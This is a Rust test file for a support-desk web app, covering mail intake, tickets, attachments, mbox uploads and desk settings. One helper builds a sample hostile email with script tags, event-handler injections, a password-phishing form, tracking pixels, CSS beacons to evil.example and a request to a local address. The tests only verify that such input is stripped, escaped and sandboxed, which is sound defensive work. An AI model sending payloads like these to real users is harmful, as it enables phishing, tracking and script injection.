//! Staff look at the mails that came in.

use desk::{Actor, Role, intake};

use crate::browser::Web;
use crate::writing::{hidden, multipart, sends};

#[test]
fn staff_see_what_became_of_each_mail_and_fetch_it_as_it_came() {
    let web = Web::of("shop-levels");
    let mine = web.desk.customer("Teekontor", "level-3");
    let contact = web.desk.read(&Actor::Operator, move |view| desk::customer::get_contact(view, mine.contact));
    let mails = [
        format!("From: {}\r\nSubject: Bestand <b>falsch\r\n\r\nSeit heute.\r\n", contact.email),
        "From: fremd@elsewhere.example\r\nSubject: Angebot\r\n\r\nGuten Tag\r\n".to_owned(),
        "From: x@elsewhere.example\r\nAuto-Submitted: auto-replied\r\nSubject: Abwesend\r\n\r\nBis Montag\r\n"
            .to_owned(),
    ];
    for raw in mails.clone() {
        web.desk.act(&Actor::Operator, move |act| {
            let (intake::Accepted::New(id) | intake::Accepted::Known(id)) =
                intake::accept(act, "support", raw.as_bytes())?;
            intake::handle_now(act, id)
        });
    }
    let (_, jana) = web.staff("Jana", Role::Agent);
    let page = jana.get("/mails").body;
    for words in ["Bestand &#60;b&#62;falsch", "New ticket", "Unknown sender, answered", "Ignored: automatic reply"] {
        assert!(page.contains(words), "{words}: {page}");
    }
    assert!(page.find("Abwesend") < page.find("Angebot"), "the newest is not first");
    let number = page.split("/shop-levels/tickets/").nth(1).unwrap().split('"').next().unwrap();
    assert!(jana.get(&format!("/tickets/{number}")).body.contains("Seit heute."));
    let path = page.split("/shop-levels/mails/").last().unwrap().split('"').next().unwrap();
    let raw = jana.get(&format!("/mails/{path}"));
    assert_eq!(raw.body, mails[0]);
    assert!(raw.headers["content-disposition"].to_str().unwrap().starts_with("attachment"));
    assert_eq!(
        (&raw.headers["content-type"], &raw.headers["x-content-type-options"]),
        (&"message/rfc822".parse().unwrap(), &"nosniff".parse().unwrap())
    );
    assert_eq!(web.contact(&mine).get("/mails").status, 303);
}

#[test]
fn a_mail_that_led_to_nothing_waits_until_somebody_has_looked() {
    let web = Web::of("shop-levels");
    let mine = web.desk.customer("Teekontor", "level-3");
    web.desk.receives(
        "From: fremd@elsewhere.example\nMessage-ID: <1@elsewhere.example>\nSubject: <b>Druck\n\nSeit heute.\n",
    );
    web.desk.receives("From: y@elsewhere.example\nSubject: Werbung\n\nKaufen Sie.\n");
    web.desk.receives("From: x@elsewhere.example\nAuto-Submitted: auto-replied\nSubject: Abwesend\n\nBis Montag\n");
    let (_, jana) = web.staff("Jana", Role::Agent);
    let waiting = || jana.get("/mails?shelf=waiting").body;
    let shelf = waiting();
    assert!(shelf.contains("Needs a look (2)") && shelf.contains("&#60;b&#62;Druck"), "{shelf}");
    assert!(!shelf.contains("Abwesend"), "a machine's reply needs no look");
    let rows = web.desk.read(&Actor::Operator, |view| intake::waiting(view, None, 10));
    let (advert, asked) = (format!("/mails/{}", rows[0].id), format!("/mails/{}", rows[1].id));

    assert_eq!(jana.post(&format!("{advert}/dismiss"), &[]).status, 303);
    assert!(waiting().contains("Needs a look (1)") && jana.get("/mails").body.contains("Werbung"));

    // Handled again, it comes to the same as long as nothing has changed.
    assert_eq!(jana.post(&format!("{asked}/retry"), &[]).status, 303);
    web.desk.jobs();
    assert!(waiting().contains("Needs a look (1)"));

    let page = jana.get(&asked).body;
    assert!(page.contains("Seit heute.") && page.contains("fremd@elsewhere.example"), "{page}");
    assert_eq!(page.matches("class=\"button primary\"").count(), 1, "making a ticket of it is what to expect: {page}");
    let turn = format!("{asked}/turn");
    let unknown = [("contact", "fremd@elsewhere.example"), ("subject", "Druck"), ("body", "Seit <i>heute")];
    let refused = jana.post(&turn, &unknown);
    assert!(refused.status == 422 && refused.body.contains("id=\"contact-error\""), "{}", refused.body);
    assert!(refused.body.contains("Seit &#60;i&#62;heute"), "what was typed stays");
    let known = [("contact", "Info@Teekontor.example"), ("subject", "Druck"), ("body", "Seit heute")];
    assert_eq!(jana.post(&turn, &known).status, 303);
    assert!(waiting().contains("Needs a look (0)"));
    let list = jana.get("/mails").body;
    assert!(list.contains("Made a ticket by hand"), "{list}");
    for again in [turn.as_str(), &format!("{asked}/retry")] {
        assert_eq!(jana.post(again, &known).status, 422, "done twice: {again}");
    }
    // What the stranger writes next comes to the same ticket.
    let next = web
        .desk
        .receives("From: fremd@elsewhere.example\nIn-Reply-To: <1@elsewhere.example>\nSubject: Noch etwas\n\nDanke\n");
    let rows = web.desk.read(&Actor::Operator, |view| intake::list(view, None, 1));
    assert_eq!((rows[0].id, rows[0].reading.outcome.as_str()), (next, "continued"));
    assert_eq!(web.contact(&mine).get(&asked).status, 303);
    assert_eq!(jana.get("/mails/999").status, 404);
}

#[test]
fn a_mail_shows_its_files_and_its_pictures_where_its_text_has_them() {
    let web = Web::of("shop-levels");
    let mine = web.desk.customer("Teekontor", "level-3");
    let other = web.desk.customer("Kaffee", "level-3");
    let contact = web.desk.read(&Actor::Operator, move |view| desk::customer::get_contact(view, mine.contact));
    let picture = |id: &str, name: &str| {
        format!(
            "--b\nContent-Type: image/gif; name=\"{name}\"\nContent-ID: <{id}>\nContent-Disposition: inline\n\nGIF89a;\n"
        )
    };
    let file = |name: &str, content: &str| {
        format!("--b\nContent-Type: image/png\nContent-Disposition: attachment; filename=\"{name}\"\n\n{content}\n")
    };
    let raw = format!(
        "From: {}\nTo: support@shop-levels.example\nSubject: Bild\nContent-Type: multipart/mixed; boundary=b\n\n\
         --b\nContent-Type: multipart/alternative; boundary=a\n\n\
         --a\nContent-Type: text/plain; charset=utf-8\n\nHier <b> [cid:one] und [image: zwei.gif] und [cid:drei]\n\
         --a\nContent-Type: text/html\n\n<img src=\"cid:one\"><img src='cid:two'><img src=\"cid:logo\">\n--a--\n{}{}{}{}--b--\n",
        contact.email,
        picture("one", "eins.gif"),
        picture("two", "zwei.gif"),
        picture("logo", "logo.gif"),
        file("x.png", "<script>alert(1)</script>"),
    );
    web.desk.receives(&raw);
    let (_, jana) = web.staff("Jana", Role::Agent);
    let seen = [("/tickets/1", &jana), ("/portal/tickets/1", &web.contact(&mine))];
    for (path, reader) in seen {
        let page = reader.get(path).body;
        let text = page.split("class=\"words pictured\" dir=\"auto\">").nth(1).unwrap_or_else(|| panic!("{page}"));
        let text = text.split("</div>").next().unwrap();
        assert!(text.starts_with("Hier &#60;b&#62; <a class=\"placed\""), "{text}");
        assert!(
            text.contains("alt=\"eins.gif\"") && text.contains("alt=\"zwei.gif\"") && text.ends_with("und [cid:drei]")
        );
        // What stands within the text is not listed again, and what stands in the HTML alone is no picture to look at.
        let list = page.split("<ul class=\"files\"").nth(1).unwrap().split("</ul>").next().unwrap();
        assert!(!list.contains("eins.gif") && !list.contains("zwei.gif") && !list.contains("<img"), "{list}");
        assert!(list.contains("logo.gif") && list.contains("x.png"), "{list}");
        let shown = text.split("src=\"/shop-levels").nth(1).unwrap().split('"').next().unwrap().to_owned();
        let picture = reader.get(&shown);
        assert_eq!(
            (picture.body.as_str(), &picture.headers["content-type"]),
            ("GIF89a;", &"image/gif".parse().unwrap())
        );
        let lied = list.rsplit("href=\"/shop-levels").next().unwrap().split('"').next().unwrap().to_owned();
        let lied = reader.get(&lied);
        assert_eq!(lied.headers["content-type"], "application/octet-stream");
        assert!(lied.headers["content-disposition"].to_str().unwrap().starts_with("attachment"));
        assert_eq!(web.contact(&other).get(&shown).status, if path.starts_with("/portal") { 404 } else { 303 });
    }
}

/// A mail as an attacker would write it, with a picture of its own.
fn hostile(from: &str) -> String {
    let html = "<style>p{background:url(https://evil.example/s)}</style><script>document.title='x'</script>\
                <p style=3D\"color:red;position:fixed;background:url(https://evil.example/b)\" onclick=3D\"x()\">Guten Tag</p>\
                <form action=3D\"https://evil.example/f\"><input name=3Dpassword><button>Anmelden</button></form>\
                <img src=3D\"cid:one\" alt=3D\"eins\" onerror=3D\"x()\"><img src=3D\"https://192.0.2.1/pixel?u=3D1\">\
                <img src=3D\"http://127.0.0.1:1/\"><iframe src=3D\"https://evil.example/i\"></iframe>\
                <svg onload=3D\"x()\"></svg><a href=3D\"https://evil.example/l\">www.bank.example</a><a href=3D\"javascript:x()\">y</a>";
    format!(
        "From: {from}\nTo: support@shop-levels.example\nSubject: Lager\nContent-Type: multipart/related; boundary=b\n\n\
         --b\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n{html}\n\
         --b\nContent-Type: image/gif; name=eins.gif\nContent-ID: <one>\nContent-Disposition: inline\n\nGIF89a;\n--b--\n"
    )
}

#[test]
fn a_mail_is_shown_as_it_was_sent_in_a_frame_that_can_do_nothing() {
    let web = Web::of("shop-levels");
    let mine = web.desk.customer("Teekontor", "level-3");
    let other = web.desk.customer("Kaffee", "level-3");
    let contact = web.desk.read(&Actor::Operator, move |view| desk::customer::get_contact(view, mine.contact));
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let ours = format!("127.0.0.1:{}", listener.local_addr().unwrap().port());
    web.desk.receives(&hostile(&contact.email).replace("127.0.0.1:1", &ours));
    let foreign = web.desk.opens(&other.actor(), "Anderes").number;
    let (_, jana) = web.staff("Jana", Role::Agent);
    let (owner, stranger) = (web.contact(&mine), web.contact(&other));
    for (tickets, reader) in [("/tickets", &jana), ("/portal/tickets", &owner)] {
        let ticket = reader.get(&format!("{tickets}/1")).body;
        let path =
            ticket.split("class=\"as-sent\"><a href=\"/shop-levels").nth(1).unwrap_or_else(|| panic!("{ticket}"));
        let path = path.split('"').next().unwrap();
        let page = reader.get(path);
        assert!(page.body.contains("2 pictures from elsewhere were not loaded"), "{}", page.body);
        let frame = page.body.split("<iframe").nth(1).unwrap().split('>').next().unwrap();
        assert!(frame.contains("sandbox=\"allow-popups allow-popups-to-escape-sandbox\""), "{frame}");
        assert!(page.headers["content-security-policy"].to_str().unwrap().ends_with("; frame-src 'self'"));
        let framed = format!("{path}/frame");
        assert!(frame.contains(&format!("src=\"/shop-levels{framed}\"")), "{frame}");

        let shown = reader.get(&framed);
        let policy = shown.headers["content-security-policy"].to_str().unwrap();
        for words in ["default-src 'none'", "img-src data:;", "form-action 'none'", "sandbox allow-popups"] {
            assert!(policy.contains(words), "{policy}");
        }
        assert!(!policy.contains("allow-scripts") && !policy.contains("same-origin"), "{policy}");
        assert_eq!(
            (&shown.headers["cache-control"], &shown.headers["referrer-policy"], &shown.headers["x-frame-options"]),
            (&"no-store".parse().unwrap(), &"no-referrer".parse().unwrap(), &"SAMEORIGIN".parse().unwrap())
        );
        let body = shown.body.split("<body").nth(1).unwrap();
        assert!(body.contains("<p style=\"color:red\">Guten Tag</p>"), "{body}");
        assert!(body.contains("src=\"data:image/gif;base64,R0lGODlhOw"), "{body}");
        assert!(body.contains("title=\"https://evil.example/l\"") && body.contains("</a> (evil.example)"), "{body}");
        for bad in ["script", "onclick", "onerror", "<form", "<input", "<iframe", "<svg", "url(", "pixel", "127.0.0.1"]
        {
            assert!(!body.contains(bad), "{bad}: {body}");
        }

        // One click asks for them, with a word that no other site knows; nobody of our own network is asked even then.
        let load = page.body.split("?pictures=").nth(1).unwrap().split('"').next().unwrap();
        let loaded = reader.get(&format!("{path}?pictures={load}")).body;
        assert!(
            loaded.contains(&format!("{framed}?pictures={load}\"")) && loaded.contains("through this server"),
            "{loaded}"
        );
        let guessed = reader.get(&format!("{path}?pictures={}", "0".repeat(load.len()))).body;
        assert!(!guessed.contains("through this server"), "{guessed}");
        assert_eq!(reader.get(&format!("{framed}?pictures={load}")).body, shown.body);

        // Whoever does not see the ticket sees nothing; neither does another ticket's number open it.
        for path in [path, &framed] {
            let through = path.replace("tickets/1/", &format!("tickets/{foreign}/"));
            assert_eq!(reader.get(&through).status, 404, "{through}");
            assert_eq!(reader.get(&path.replace("/messages/", "/messages/9")).status, 404);
            assert_eq!(stranger.get(path).status, if tickets == "/tickets" { 303 } else { 404 });
            assert_eq!(web.browser().get(path).status, 303);
        }
    }
    let asked = listener.accept().map(|(_, from)| from);
    assert!(asked.is_err(), "{asked:?} came to a server of our own network");
}

#[test]
fn what_came_another_way_is_not_shown_as_sent_and_a_text_is_shown_as_text() {
    let web = Web::of("shop-levels");
    let mine = web.desk.customer("Teekontor", "level-3");
    let contact = web.desk.read(&Actor::Operator, move |view| desk::customer::get_contact(view, mine.contact));
    web.desk.receives(&format!("From: {}\nSubject: Text\n\nSeit <b>heute\n> Zitat\n", contact.email));
    web.desk.opens(&mine.actor(), "Aus dem Portal");
    let (_, jana) = web.staff("Jana", Role::Agent);
    let page = jana.get("/tickets/1").body;
    let path = page.split("class=\"as-sent\"><a href=\"/shop-levels").nth(1).unwrap().split('"').next().unwrap();
    let shown = jana.get(&format!("{path}/frame")).body;
    assert!(shown.contains("Seit &lt;b&gt;heute") && shown.contains("&gt; Zitat"), "{shown}");
    assert!(!jana.get(path).body.contains("from elsewhere were"), "there are no pictures");
    assert!(!jana.get("/tickets/2").body.contains("as-sent"));
}

#[test]
fn a_message_says_what_of_its_mail_it_leaves_out() {
    let web = Web::of("shop-levels");
    let mine = web.desk.customer("Teekontor", "level-3");
    let contact = web.desk.read(&Actor::Operator, move |view| desk::customer::get_contact(view, mine.contact));
    let parts = "--b\nContent-Type: text/plain; name=a.txt\n\na\n".repeat(600);
    web.desk.receives(&format!(
        "From: {}\nSubject: Viel\nContent-Type: multipart/mixed; boundary=b\n\n{parts}--b--\n",
        contact.email
    ));
    let (_, jana) = web.staff("Jana", Role::Agent);
    let page = jana.get("/tickets/1").body;
    for words in ["More than 100 attachments", "Too many parts: the rest is an attachment"] {
        assert!(page.contains(words), "{words}: {page}");
    }
}

#[test]
fn files_of_mails_are_taken_in_whole_and_once() {
    let web = Web::of("shop-levels");
    web.desk.customer("Teekontor", "level-3");
    let (_, jana) = web.staff("Jana", Role::Agent);
    let csrf = hidden(&jana.get("/mails/upload").body, "csrf");
    let fields = [("csrf", csrf.as_str())];
    let mail = |number: i32| format!("From: info@teekontor.example\r\nSubject: Alt {number}\r\n\r\nText\r\n");
    let mbox = format!("From a\r\n{}\r\nFrom b\r\n{}", mail(1), mail(2));
    let one = mail(2);
    let upload =
        |files: &[(&str, &str, &[u8])]| sends(&web, &jana, "/mails/upload", multipart(&fields, files, "--B--\r\n"));
    let empty = upload(&[("leer.mbox", "", b"From a\r\n"), ("alt.eml", "", one.as_bytes())]);
    assert!(empty.status == 422 && empty.body.contains("id=\"file-error\""), "{}", empty.body);
    assert_eq!(web.desk.rows("select count(*) from mail"), ["0"], "all files or none");
    assert_eq!(upload(&[]).status, 422);
    assert_eq!(upload(&[("alt.mbox", "", mbox.as_bytes()), ("alt.eml", "", one.as_bytes())]).status, 303);
    assert_eq!(web.desk.rows("select count(*) from mail"), ["2"], "the same mail in two files is one");
    web.desk.jobs();
    let page = jana.get("/mails").body;
    assert!(page.contains("Alt 1") && page.contains("Alt 2") && page.contains("New ticket"), "{page}");
    let unguarded = multipart(&[], &[("alt.eml", "", one.as_bytes())], "--B--\r\n");
    assert_eq!(sends(&web, &jana, "/mails/upload", unguarded).status, 403);
}

#[test]
fn what_a_mail_quotes_and_signs_with_is_folded_and_a_stranger_is_called_one() {
    let web = Web::of("shop-levels");
    let mine = web.desk.customer("Teekontor", "level-3");
    let email = web.desk.read(&Actor::Operator, move |view| desk::customer::get_contact(view, mine.contact)).email;
    web.desk.receives(&format!(
        "From: {email}\nMessage-ID: <1@teekontor.example>\nSubject: Kasse\n\nSie steht.\n\n\
         Von: Bo\nGesendet: gestern\nAn: Ada\nBetreff: Kasse\n\nSteht sie?\n"
    ));
    web.desk.receives(
        "From: Bo <bo@elsewhere.example>\nIn-Reply-To: <1@teekontor.example>\nSubject: Kasse\n\nGeht wieder.\n-- \nBo Berg\n",
    );
    let (_, jana) = web.staff("Jana", Role::Agent);
    for page in [jana.get("/tickets/1").body, web.contact(&mine).get("/portal/tickets/1").body] {
        let (first, second) = page.split_once("Geht wieder.").expect("both messages are there");
        let (seen, folded) = first.split_once("<details class=\"quoted\">").expect("the first is folded");
        assert!(seen.contains("Sie steht.") && !seen.contains("Gesendet: gestern"), "{seen}");
        assert!(folded.contains("Gesendet: gestern") && folded.contains("Steht sie?"), "{folded}");
        assert!(folded.contains("Bo (no confirmed contact)"), "{folded}");
        assert!(second.contains("<details class=\"quoted\">") && second.contains("Bo Berg"), "{second}");
    }
}

#[test]
fn administrators_say_who_the_desk_is_and_who_checks_its_senders() {
    let web = Web::of("shop-levels");
    let mine = web.desk.customer("Teekontor", "level-3");
    let email = web.desk.read(&Actor::Operator, move |view| desk::customer::get_contact(view, mine.contact)).email;
    let (_, chief) = web.staff("Musa", Role::Administrator);
    let page = chief.get("/settings/desk").body;
    assert!(chief.get("/settings").body.contains("/settings/desk") && page.contains("name=\"mail.checked-by\""));
    let wrong = [
        ("mail.address", "support+x@provider.example"),
        ("mail.checked-by", "mx; dmarc=pass"),
        ("public-url", "javascript:alert(1)"),
        ("look.hue", "<b>360"),
    ];
    for (name, value) in wrong {
        let refused = chief.post("/settings/desk", &[("mail.name", "Anders"), (name, value)]);
        assert_eq!(refused.status, 422, "{name}");
        assert!(refused.body.contains(&format!("id=\"{name}-error\"")), "{name}: {}", refused.body);
    }
    assert!(!chief.get("/settings/desk").body.contains("Anders"), "nothing half done");
    let right = [
        ("mail.address", "Hilfe@Provider.example"),
        ("mail.name", "Hilfe"),
        ("mail.checked-by", "mx.provider.example"),
        ("public-url", "https://support.provider.example/"),
        ("look.hue", "20"),
    ];
    assert_eq!(chief.post("/settings/desk", &right).status, 303);
    let page = chief.get("/settings/desk").body;
    for value in ["hilfe@provider.example", "mx.provider.example", "\"https://support.provider.example\""] {
        assert!(page.contains(value), "{value}: {page}");
    }

    web.desk.receives(&format!("From: {email}\nSubject: Kasse\n\nSie steht.\n"));
    web.desk.receives(&format!(
        "Authentication-Results: mx.provider.example; dmarc=fail\nFrom: {email}\nSubject: Drucker\n\nEr auch.\n"
    ));
    let shelf = chief.get("/mails?shelf=waiting").body;
    for words in ["Needs a look (2)", "Sender not proven: needs a look", "Sender probably forged: needs a look"] {
        assert!(shelf.contains(words), "{words}: {shelf}");
    }
    let (_, jana) = web.staff("Jana", Role::Agent);
    assert_eq!(jana.get("/settings/desk").status, 403);
    assert_eq!(jana.post("/settings/desk", &right).status, 403);
    assert!(!jana.get("/settings").body.contains("/settings/desk"));
}
